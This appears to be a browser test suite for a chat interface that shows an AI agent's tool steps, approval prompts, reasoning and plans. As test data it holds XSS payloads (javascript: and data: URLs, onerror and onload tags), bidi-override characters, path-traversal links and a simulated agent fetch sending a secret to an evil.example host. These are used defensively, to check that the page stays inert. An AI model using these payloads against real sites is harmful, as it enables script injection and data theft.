// What an answer does, as a reader sees it: steps as sentences, questions with the
// thing itself, thoughts, the plan, summaries and files that are offered.

import assert from 'node:assert/strict'
import { axe, conversation, focused, says, scene, send, shot, until } from './world.js'

/** @typedef {import('./world.js').World} World */

/** @param {World} w @param {string} [text] */
async function asked(w, text = 'do it') {
  await w.open()
  await send(w.page, text)
  return conversation(w)
}

const both = /** @type {const} */ ([
  { width: 1280, height: 800, locale: 'en-GB' }, { width: 375, height: 667, locale: 'en-GB', touch: true },
  { width: 1280, height: 800, locale: 'zh-CN' }, { width: 375, height: 667, locale: 'zh-CN', touch: true },
])
const named = (/** @type {{width: number, locale: string}} */ { width, locale }) => `${width} px, ${locale}`
const fits = (/** @type {World} */ w) => w.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth && [...document.querySelectorAll('.log')].every((el) => el.scrollWidth <= el.clientWidth))
const nodes = (/** @type {World} */ w) => w.page.evaluate(() => document.querySelectorAll('.log *').length)

for (const window of both) {
  scene(`steps are sentences in the reader's language, several in a row are one line: ${named(window)}`, async (w) => {
    const zh = window.locale === 'zh-CN'
    const c = await asked(w)
    c.step('a', 'write_file', { content: '# Plan\nText that says nothing', path: 'notes/plan.md' }, 'ok', '{"success":true,"path":"notes/plan.md"}')
    await w.page.locator('.tool').waitFor()
    // Never what is written into it, in whatever order the arguments come.
    assert.equal(await w.page.locator('.tool summary').innerText(), zh ? '已写入 notes/plan.md' : 'Wrote notes/plan.md')
    c.step('b', 'read_file', { path: 'a.md' }, 'ok', 'one')
    c.step('c', 'read_file', { path: 'b.md' }, 'ok', 'two')
    c.step('d', 'mcp__github__search_issues', { q: 'bear' }, 'ok', '{"found":2}')
    c.step('e', 'exec_shell', { command: 'make test' }, 'error', '{"stdout":"","stderr":"make: no rule","exitCode":2}')
    c.step('f', 'exec_shell', { command: 'sleep 9' })
    const line = w.page.locator('.steps > summary')
    await until(async () => (await line.innerText()).includes('sleep 9'))
    assert.equal(await w.page.locator('.turn .tool').count(), 0, 'the steps are folded')
    const text = (await line.innerText()).replace(/\s+/g, ' ')
    assert.match(text, zh ? /^6 个步骤：写入了 1 个文件，读取了 2 个文件，使用了 1 次其他工具，运行了 2 条命令 正在运行 sleep 9 1 个失败/ : /^6 steps: wrote 1 file, read 2 files, used 1 other tool, ran 2 commands Running sleep 9 1 failed/)
    await line.focus()
    await w.page.keyboard.press('Enter')
    await until(async () => (await w.page.locator('.steps .tool').count()) === 6)
    const said = (await w.page.locator('.steps .tool summary').allInnerTexts()).map((s) => s.replace(/\s+/g, ' ').replace(/ ?\d+ (s|秒)$/, ''))
    assert.deepEqual(said, zh ? ['已写入 notes/plan.md', '已读取 a.md', '已读取 b.md', '已使用 github › search_issues', '运行 make test 失败 make: no rule', '正在运行 sleep 9']
      : ['Wrote notes/plan.md', 'Read a.md', 'Read b.md', 'Used github › search_issues', 'Running make test failed make: no rule', 'Running sleep 9'])
    // The line above says what runs.
    await says(w.page.locator('.status'), zh ? /正在运行 sleep 9 · \d+ 秒/ : /Running sleep 9 · \d+ s/)
    assert.ok(!(await w.page.locator('.status [role="status"]').innerText()).match(/\d+ (s|秒)$/), 'the seconds are not announced')
    // A tab stop each, and Enter opens it.
    await w.page.keyboard.press('Tab')
    await w.page.keyboard.press('Enter')
    await w.page.locator('#call-a .rows').waitFor()
    for (const id of ['d', 'e']) await w.page.locator(`#call-${id} summary`).click()
    await says(w.page.locator('#call-d'), /"found": 2/)
    await says(w.page.locator('#call-e'), zh ? /错误输出\s+make: no rule\s+退出码 2/ : /Error output\s+make: no rule\s+Exit code 2/)
    assert.deepEqual(await axe(w.page), [])
    assert.ok(await fits(w))
    await shot(w.page, `steps-${window.width}-${window.locale}`)
    c.finish('cancelled')
    await w.page.getByText(zh ? '正在运行 sleep 9 时被中断' : 'Running sleep 9: interrupted').waitFor()
  }, window)
}

scene('the focus stays where it was when a second step takes the first one in', async (w) => {
  const c = await asked(w)
  c.step('a', 'read_file', { path: 'a.md' }, 'ok', 'one')
  await w.page.locator('#call-a summary').focus()
  c.step('b', 'read_file', { path: 'b.md' }, 'ok', 'two')
  await w.page.locator('.steps > summary').waitFor()
  await until(() => w.page.evaluate(() => Boolean(document.activeElement?.matches('.steps > summary'))))
})

scene('time taken is that of the work, without the wait for a person', async (w) => {
  await w.page.clock.install({ time: new Date('2026-01-01T10:00:00Z') })
  const c = await asked(w)
  const at = (/** @type {number} */ s) => ({ timestamp: new Date(Date.UTC(2026, 0, 1, 10, 0, s)).toISOString() })
  const call = { runId: c.run, callId: 'a', name: 'exec_shell', arguments: { command: 'make' } }
  c.emit('tool_call', { ...call, ...at(0) })
  c.emit('approval_required', { ...call, ...at(0), approvalId: 'p', scope: 'exec_shell make', decisions: ['once', 'deny'], expiresAt: '2099-01-01T00:00:00.000Z' })
  c.emit('approval_resolved', { runId: c.run, approvalId: 'p', decision: 'once', ...at(30) })
  c.emit('tool_result', { ...call, ...at(42), status: 'ok', output: '' })
  await until(async () => {
    await w.page.clock.runFor(50)
    return w.page.locator('.tool-time').count()
  })
  assert.equal(await w.page.locator('.tool-time').innerText(), '12 s')
  await says(w.page.locator('.tool-trace'), /^Allowed once · \d\d:00$/)
})

scene('what was found is a list of sources, and only what leads out safely is a link', async (w) => {
  const c = await asked(w)
  const hits = [{ title: 'Trains <b>to</b> Hangzhou', url: 'https://example.com/trains?x=1', snippet: 'All of \u202ethem', date: '2026-11-01' }, { title: 'Bad', url: 'javascript:alert(1)', snippet: '</script><img src=x onerror=alert(1)>' },
    { title: 'Data', url: 'data:text/html,<script>alert(1)</script>' }, { title: 'Sign-in', url: 'https://example.com/#login=stolen' }, { title: 'Local', url: '/api/logout' }]
  c.step('a', 'web_search', { query: 'trains' }, 'ok', JSON.stringify(hits))
  await w.page.locator('#call-a summary').click()
  await until(async () => (await w.page.locator('.sources li').count()) === 5)
  assert.deepEqual(await w.page.locator('.sources a').evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')])),
    [['https://example.com/trains?x=1', 'noopener noreferrer nofollow', '_blank']])
  const first = await w.page.locator('.sources li').first().innerText()
  assert.match(first, /^Trains <b>to<\/b> Hangzhou\s+example\.com · 2026-11-01\s+All of \\u\{202E\}them$/)
  c.step('b', 'files_search', { query: 'bear' }, 'ok', '[{"path":"notes/a.md","line":3,"text":"the bear"}]')
  c.step('c', 'list_directory', { path: 'notes' }, 'ok', '[{"name":"a.md","type":"file"},{"name":"old","type":"directory"}]')
  await w.page.locator('.steps > summary').click()
  for (const id of ['b', 'c']) await w.page.locator(`#call-${id} summary`).click()
  await says(w.page.locator('.hits'), /^notes\/a\.md:3 the bear$/)
  await until(async () => (await w.page.locator('.names li').allInnerTexts()).join() === 'a.md,old/')
  assert.deepEqual(await axe(w.page), [])
})

for (const window of both) {
  scene(`a question says what will happen, shows the lines that change, and keeps its buttons in reach: ${named(window)}`, async (w) => {
    const zh = window.locale === 'zh-CN'
    w.stub.files.set('notes/plan.md', `# Plan\n\nold line\n${'same\n'.repeat(100)}`)
    const c = await asked(w)
    c.ask('a', 'write_file', { content: `# Plan\n\nnew \u202eline\nand one more\n${'same\n'.repeat(100)}${Array.from({ length: 40 }, (_, i) => `added ${i}\n`).join('')}`, path: 'notes/plan.md' }, 'write_file notes/plan.md',
      { decisions: ['once', 'turn', 'deny'], reason: 'foreign_text', sources: ['https://example.com/<b>', 'web search: trains', 'exec_shell'] })
    const ask = w.page.getByRole('group', { name: zh ? '要写入 notes/plan.md 吗？' : 'Write notes/plan.md?' })
    await ask.locator('.added').first().waitFor()
    await says(ask, zh ? /修改文件：\+42 −1 行/ : /Changes the file: lines \+42 −1/)
    assert.deepEqual((await ask.locator('.rows > div').allInnerTexts()).slice(0, 5).map((s) => s.replace(/\n/g, '')), [' # Plan', ' ', '-old line', '+new \\u{202E}line', '+and one more'])
    assert.ok(await ask.locator('.rows').evaluate((el) => [...el.children].every((row, i, all) => i === 0 || Math.abs(row.getBoundingClientRect().top - all[i - 1].getBoundingClientRect().bottom) < 1)), 'lines follow one another without a gap')
    await says(ask, zh ? /94 行未改动/ : /94 unchanged lines/)
    assert.deepEqual(await ask.locator('.ask-why li').allInnerTexts(), ['https://example.com/<b>', ...(zh ? ['网上搜索：trains', '命令输出'] : ['a web search for trains', 'output of a command'])])
    await says(ask, zh ? /可能由他人写下的文字/ : /text that others may have written/)
    // Exactly what may be decided.
    assert.deepEqual(await ask.getByRole('button').allInnerTexts(), zh ? ['直到这次回答结束', '允许一次', '拒绝'] : ['Until this answer is done', 'Allow once', 'Deny'])
    await says(ask, zh ? /对这个文件的任何写入/ : /whatever is written to this file/)
    await shot(w.page, `ask-${window.width}-${window.locale}`)
    // Wherever in it the reader is.
    for (const share of [0.2, 0.5, 1]) {
      await w.page.locator('.log').evaluate((el, part) => { el.scrollTop = (el.scrollHeight - el.clientHeight) * part }, share)
      await w.page.waitForTimeout(60)
      const seen = await ask.evaluate((el) => {
        const log = /** @type {Element} */ (el.closest('.log')).getBoundingClientRect()
        const inside = (/** @type {Element|null} */ part) => {
          const box = /** @type {Element} */ (part).getBoundingClientRect()
          return box.top >= log.top - 1 && box.bottom <= log.bottom + 1 && document.elementsFromPoint(box.left + 8, box.top + box.height / 2).includes(/** @type {Element} */ (part))
        }
        return { allow: inside(el.querySelector('.primary')), deny: inside(el.querySelector('.danger')), what: inside(el.querySelector('.ask-head .thing')) }
      })
      assert.deepEqual(seen, { allow: true, deny: true, what: true }, `at ${share}`)
    }
    if (window.width < 500) for (const box of await ask.locator('.ask-foot button').evaluateAll((all) => all.map((b) => b.getBoundingClientRect().height))) assert.ok(box >= 44, `${box} px`)
    assert.deepEqual(await axe(w.page), [])
    assert.ok(await fits(w))
    await ask.locator('.primary').focus()
    await w.page.keyboard.press('Enter')
    await until(() => c.decisions.get('p-a') === 'once')
    await until(() => w.page.evaluate(() => document.activeElement?.matches('#call-a summary')))
    c.emit('tool_result', { runId: c.run, callId: 'a', name: 'write_file', status: 'ok', output: '{"success":true}' })
    await until(async () => (await w.page.locator('#call-a summary').innerText()).startsWith(zh ? '已写入' : 'Wrote'))
    await says(w.page.locator('.tool-trace'), zh ? /^已允许一次 · \d\d:\d\d$/ : /^Allowed once · \d\d:\d\d$/)
    // What it changed can be read afterwards, too.
    await w.page.keyboard.press('Enter')
    await until(async () => (await w.page.locator('#call-a .added').count()) > 0)
  }, window)
}

scene('a last line without an end is no change of it', async (w) => {
  for (const [old, now, wanted] of /** @type {[string, string, RegExp][]} */ ([['one\ntwo\n', 'one\nand a half\ntwo', /lines \+1 −0/], ['one\n', 'one', /stays as it is/]])) {
    const c = await asked(w)
    w.stub.files.set('a.md', old)
    c.ask('a', 'write_file', { path: 'a.md', content: now }, 'write_file a.md')
    await says(w.page.locator('.asks'), wanted)
  }
})

scene('a command, an address and a memory stand there whole, once; a longer approval says what it covers', async (w) => {
  const c = await asked(w)
  c.ask('a', 'exec_shell', { command: 'make all && rm x' }, 'exec_shell make all && rm x')
  const command = w.page.getByRole('group', { name: 'Run this command?' })
  await command.waitFor()
  assert.equal(await command.locator('.scope').innerText(), 'make all && rm x')
  assert.equal((await command.innerText()).split('make all').length - 1, 1)
  await says(command, /covers exactly this command/)
  assert.deepEqual(await command.getByRole('button').allInnerTexts(), ['Until this answer is done', 'For this conversation', 'For 7 days', 'Allow once', 'Deny'])
  await command.getByRole('button', { name: 'For this conversation' }).click()
  await until(() => c.decisions.get('p-a') === 'session')
  await w.page.getByText('Allowed for this conversation · ').waitFor()
  c.emit('tool_result', { runId: c.run, callId: 'a', name: 'exec_shell', status: 'ok', output: '{"stdout":"","exitCode":0}' })
  c.ask('b', 'web_fetch', { url: 'https://good.example@evil.example/p?secret=1' }, 'web_fetch https://good.example@evil.example/p?secret=1')
  const address = w.page.getByRole('group', { name: 'Open this address?' })
  await address.waitFor()
  assert.equal(await address.locator('.scope').innerText(), 'https://good.example@evil.example/p?secret=1')
  assert.equal(await address.locator('a').count(), 0, 'what is asked about is no link')
  await address.getByRole('button', { name: 'Deny' }).click()
  c.emit('tool_result', { runId: c.run, callId: 'b', name: 'web_fetch', status: 'denied', output: 'words for the model' })
  // The newest decision is said of several steps, too.
  await w.page.locator('.steps > summary', { hasText: /1 not allowed.*Denied · \d\d:\d\d/s }).click()
  await w.page.getByText('Not allowed to open evil.example/p?…').waitFor()
  assert.deepEqual((await w.page.locator('.tool-trace').allInnerTexts()).map((s) => s.replace(/ ·.*/, '')), ['Allowed for this conversation', 'Denied'])
  // What the model is told of it is no reason for who denied it.
  assert.equal(await w.page.locator('.tool-reason').count(), 0)
  c.ask('d', 'mcp__mail__send', { to: 'bear@example.org', text: 'a\u200bb' }, 'mcp__mail__send (user definitions 0123456789ab, version 1)')
  const tool = w.page.getByRole('group', { name: 'Use mail › send?' })
  await tool.waitFor()
  await says(tool, /"to": "bear@example\.org",\s+"text": "a\\u\{200B\}b"/)
  await says(tool, /covers every call of this tool, whatever its arguments/)
  await says(tool.locator('.scope'), /^mcp__mail__send \(user definitions 0123456789ab, version 1\)$/)
  assert.deepEqual(await axe(w.page), [])
})

scene('what differs from what is allowed is shown beside it', async (w) => {
  const c = await asked(w)
  c.ask('a', 'write_file', { path: 'a.md', content: 'x' }, 'write_file b.md')
  c.ask('b', 'write_file', { path: `${'long/'.repeat(60)}x.md`, content: 'x' }, `write_file ${'long/'.repeat(60)}x.md`)
  await w.page.locator('#call-a .scope').waitFor()
  assert.equal(await w.page.locator('#call-a .scope').innerText(), 'write_file b.md')
  await w.page.locator('#call-a').getByText('A new file, 1 line').waitFor()
  const second = w.page.locator('#call-b')
  await second.waitFor()
  assert.equal(await second.locator('.scope').innerText(), `write_file ${'long/'.repeat(60)}x.md`)
  assert.deepEqual(await w.page.locator('.ask-of').allInnerTexts(), ['1 of 2', '2 of 2'])
  await w.page.locator('#call-a .primary').click()
  await until(() => c.decisions.has('p-a'))
  await until(async () => (await focused(w.page)) === 'Allow once')
})

scene('two answers may call by the same id: each question is compared with the file as it is then', async (w) => {
  w.stub.files.set('a.md', 'first\n')
  const c = await asked(w)
  c.ask('a', 'write_file', { path: 'a.md', content: 'second\n' }, 'write_file a.md')
  await w.page.locator('.asks .removed', { hasText: 'first' }).waitFor()
  await w.page.getByRole('button', { name: 'Allow once' }).click()
  await until(() => c.decisions.has('p-a'))
  w.stub.files.set('a.md', 'second\n')
  c.emit('tool_result', { runId: c.run, callId: 'a', name: 'write_file', status: 'ok', output: '{}' })
  c.say('Done.')
  await send(w.page, 'again')
  await until(() => c.run === 'r2')
  c.ask('a', 'write_file', { path: 'a.md', content: 'third\n' }, 'write_file a.md', { approvalId: 'p-2' })
  await w.page.locator('.asks .removed', { hasText: 'second' }).waitFor()
  await w.page.getByRole('button', { name: 'Deny' }).focus()
  await w.page.keyboard.press('Enter')
  await until(() => c.decisions.get('p-2') === 'deny')
  // The focus is at this one, not at that of the first answer.
  await until(() => w.page.evaluate(() => document.activeElement?.closest('.turn') === document.querySelector('.turn:last-child') && document.activeElement?.tagName === 'SUMMARY'))
})

scene('a file that cannot be compared is shown as it becomes', async (w) => {
  w.stub.files.set('big.txt', 'x'.repeat(300_000))
  w.stub.files.set('bin', 'a\0b')
  const c = await asked(w)
  c.ask('a', 'write_file', { path: 'big.txt', content: 'small' }, 'write_file big.txt')
  await w.page.getByText('too large, or no text').waitFor()
  await w.page.locator('#call-a .primary').click()
  c.ask('b', 'write_file', { path: '../sessions', content: 'x' }, 'write_file ../sessions')
  await w.page.locator('#call-b').getByText('could not be read').waitFor()
  assert.equal(w.stub.requests.filter((r) => r.startsWith('GET /api/files')).length, 1)
})

for (const window of both) {
  scene(`a thought is one line that counts, its words come on a press: ${named(window)}`, async (w) => {
    const zh = window.locale === 'zh-CN'
    const c = await asked(w)
    c.emit('reasoning_chunk', { runId: c.run, messageId: 'a-' + c.run, content: 'First **this**.\n\n' })
    c.emit('reasoning_chunk', { runId: c.run, messageId: 'a-' + c.run, content: 'Then \u202ethat <b>', offset: 17 })
    const line = w.page.locator('.thinks > summary')
    await until(async () => new RegExp(zh ? '思考中… [1-9]\\d* 秒' : 'Thinking… [1-9]\\d* s').test(await line.innerText()))
    await says(line, /Then \\u\{202E\}that <b>/)
    assert.equal(await w.page.locator('.thinks p').count(), 0, 'nothing is drawn of what is folded')
    await line.focus()
    await w.page.keyboard.press('Enter')
    await until(async () => (await w.page.locator('.thinks p').count()) === 2)
    assert.deepEqual(await w.page.locator('.thinks p').allInnerTexts(), ['First **this**.', 'Then \\u{202E}that <b>'])
    assert.deepEqual(await axe(w.page), [])
    await shot(w.page, `thought-${window.width}-${window.locale}`)
    c.say('The answer.')
    await w.page.getByText('The answer.').waitFor()
    await says(line, zh ? /思考了 \d+ 秒/ : /Thought for \d+ s/)
    await w.page.evaluate(() => { Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (/** @type {string} */ text) => { /** @type {any} */ (globalThis).copied = text } } }) })
    await w.page.getByRole('button', { name: zh ? '复制回答' : 'Copy answer' }).click()
    assert.equal(await w.page.evaluate(() => /** @type {any} */ (globalThis).copied), 'The answer.')
    await w.page.reload()
    await until(async () => (await w.page.locator('.thinks').count()) === 1)
    assert.equal(await w.page.locator('.thinks').evaluate((el) => /** @type {HTMLDetailsElement} */ (el).open), false)
    assert.deepEqual(await axe(w.page), [])
  }, window)
}

scene('the plan is a list that changes in its place, and goes on with the newest turn', async (w) => {
  const c = await asked(w)
  c.emit('todo', { runId: c.run, items: [{ text: 'Look <b>up</b>', state: 'doing' }, { text: 'Write \u202eit', state: 'open' }, { text: 'x', state: 'constructor' }] })
  const plan = w.page.getByRole('region', { name: 'Plan' })
  await plan.waitFor()
  await says(plan, /0 of 3 done/)
  c.emit('todo', { runId: c.run, items: [{ text: 'Look <b>up</b>', state: 'done' }, { text: 'Write \u202eit', state: 'doing' }] })
  await until(async () => (await plan.innerText()).includes('1 of 2 done'))
  assert.deepEqual((await plan.locator('li').allInnerTexts()).map((s) => s.replace(/\s+/g, ' ')), ['✓ done: Look <b>up</b>', '◐ in work: Write \\u{202E}it'])
  assert.deepEqual(await axe(w.page), [])
  c.say('Half.')
  await send(w.page, 'go on')
  await until(() => c.run === 'r2')
  c.emit('todo', { runId: c.run, items: [{ text: 'Write it', state: 'done' }] })
  await until(async () => (await plan.innerText()).includes('1 of 1 done'))
  assert.equal(await plan.count(), 1)
  c.emit('todo', { runId: c.run, items: [] })
  await until(async () => (await plan.count()) === 0)
})

scene('a summary is a thin line between turns; a short conversation is not asked for one', async (w) => {
  const c = w.stub.conversation('long')
  for (let i = 0; i < 10; i++) {
    c.start({ message: `question ${i}` }, `k${i}`, () => {})
    c.say(`Answer ${i}.`)
  }
  c.summaries = [{ id: 's1', parentId: 'a-r3', role: 'system', summary: true, content: 'They spoke of <b>bears</b>.\n\n- And honey.\n- And tea.' }]
  c.todo = [{ text: 'Buy honey', state: 'open' }]
  await w.open('/s/long')
  const line = w.page.locator('.summarised > summary')
  await line.waitFor()
  assert.equal(await line.innerText(), 'Earlier messages were summarised')
  assert.equal(await w.page.locator('.turn', { has: line }).getAttribute('data-turn'), 'm3')
  await line.click()
  await says(w.page.locator('.summarised'), /They spoke of <b>bears<\/b>\.\s+- And honey\.\n- And tea\./)
  await w.page.getByRole('region', { name: 'Plan' }).getByText('Buy honey').waitFor()
  assert.deepEqual(await axe(w.page), [])
  await shot(w.page, 'summary')
  const few = w.stub.conversation('short')
  few.start({ message: 'hi' }, 'k', () => {})
  few.say('Hello.')
  const before = w.stub.requests.length
  await w.open('/s/short')
  await w.page.getByText('Hello.').waitFor()
  await w.page.waitForTimeout(200)
  assert.deepEqual(w.stub.requests.slice(before).filter((r) => r.includes('/api/history')), [])
})

scene('a file that an answer offers is fetched as its reader, and says when it is gone', async (w) => {
  w.stub.files.set('notes/my plan.md', '# Plan')
  const c = await asked(w)
  c.say('Here is [the plan](files/notes/my%20plan.md), [a gone one](files/gone.txt), [none](files/../api/logout), [nor this](files/%2e%2e/x).')
  const chip = w.page.getByRole('button', { name: 'the plan my plan.md' })
  await chip.waitFor()
  assert.equal(await w.page.locator('.file-chip').count(), 2)
  const [got] = await Promise.all([w.page.waitForEvent('download'), chip.click()])
  assert.equal(got.suggestedFilename(), 'my plan.md')
  await w.page.getByRole('button', { name: /a gone one/ }).click()
  await w.page.getByText('no longer there').waitFor()
  assert.deepEqual(await axe(w.page), [])
  await shot(w.page, 'files')
})

scene('what an answer cost is told to who asks', async (w) => {
  const c = await asked(w)
  c.complete('Yes.')
  c.finish('done', { usage: { promptTokens: 1000, completionTokens: 157, totalTokens: 1157, cachedTokens: 800, reasoningTokens: 50 } })
  const button = w.page.getByRole('button', { name: 'What it cost' })
  await button.click()
  await says(w.page.locator('.usage'), /1,157 tokens: 1,000 read, 157 written · 50 of them thought · 80 % of what was read came from the cache/)
  assert.equal(await button.getAttribute('aria-expanded'), 'true')
  assert.deepEqual(await axe(w.page), [])
})

scene('whatever tools, arguments and results hold, the page stays inert, in its bounds and quick', async (w) => {
  const c = await asked(w)
  let deep = ''
  for (let i = 0; i < 3000; i++) deep += '{"a":'
  deep += '1' + '}'.repeat(3000)
  const evil = '</script><img src=x onerror="globalThis.hit=1"><svg onload="globalThis.hit=1"> [x](javascript:globalThis.hit=1) \u202e\u2066\u0000\x1b[2J'
  c.step('a', evil.repeat(50), { [evil]: evil, __proto__x: evil }, 'ok', evil)
  c.step('b', 'exec_shell', { command: 'x'.repeat(1_000_000) }, 'ok', JSON.stringify({ stdout: 'y'.repeat(1_000_000), stderr: '\u202e'.repeat(100_000), exitCode: 0 }))
  c.step('d', 'mcp__x__y', JSON.parse(deep), 'ok', deep)
  c.step('e', 'web_search', { query: evil }, 'ok', JSON.stringify(Array.from({ length: 10_000 }, (_, i) => ({ title: `${evil} ${i}`, url: i % 2 ? 'javascript:globalThis.hit=1' : `https://example.com/${i}`, snippet: i < 20 ? evil.repeat(500) : '' }))))
  c.step('f', 'list_directory', { path: evil }, 'ok', JSON.stringify(Array.from({ length: 10_000 }, (_, i) => ({ name: `${evil}${i}`, type: 'file' }))))
  c.step('g', 'write_file', { path: evil, content: `${evil}\n`.repeat(20_000) }, 'ok', '{}')
  c.step('h', 'toString', null, 'ok', '')
  c.step('i', 'read_file', 'not an object', 'error', evil)
  const line = w.page.locator('.steps > summary')
  await until(async () => (await line.innerText()).startsWith('8 steps'))
  await line.click()
  for (const id of 'abdefghi') await w.page.locator(`#call-${id} summary`).first().click()
  await until(async () => (await w.page.locator('.tool [open] , .tool details[open]').count()) >= 8)
  assert.ok(await nodes(w) < 30_000, `${await nodes(w)} elements`)
  assert.equal(await w.page.locator('.sources li').count(), 10)
  assert.equal(await w.page.locator('.names li').count(), 10)
  assert.equal(await w.page.locator('.log :is(script, img, iframe, object, embed, form), .log a[href^="javascript"]').count(), 0)
  assert.equal(await w.page.evaluate(() => /** @type {any} */ (globalThis).hit), undefined)
  // Nothing of it reorders the text beside it: no such sign is on the page.
  assert.equal(await w.page.evaluate(() => /[\u202a-\u202e\u2066-\u2069\u0000\x1b]/.test(document.querySelector('.log')?.textContent ?? '')), false)
  assert.ok(await fits(w))
  await w.page.getByRole('button', { name: /Show \d+ more$/ }).first().click()
  await until(async () => (await w.page.locator('.sources li').count()) === 40)
  for (let i = 0; i < 300; i++) c.step(`n${i}`, 'read_file', { path: `${i}` }, 'ok', 'x')
  await until(async () => (await line.innerText()).startsWith('308 steps'))
  assert.equal(await w.page.locator('.steps .tool').count(), 50)
  c.emit('reasoning_chunk', { runId: c.run, messageId: 'z', content: `${evil}\n\n`.repeat(500) })
  await w.page.locator('.thinks summary').click()
  await until(async () => (await w.page.locator('.thinks p').count()) > 400)
  c.ask('q', 'exec_shell', { command: '\u202e\u2066'.repeat(200_000) }, `exec_shell ${'\u202e\u2066'.repeat(200_000)}`, { reason: 'foreign_text', sources: Array.from({ length: 5000 }, () => evil.repeat(3)) })
  await w.page.locator('.asks').getByText(/characters are not shown/).first().waitFor()
  assert.equal(await w.page.locator('.ask-why li').count(), 9)
  assert.equal(await w.page.evaluate(() => /** @type {any} */ (globalThis).hit), undefined)
  await shot(w.page, 'hostile')
})
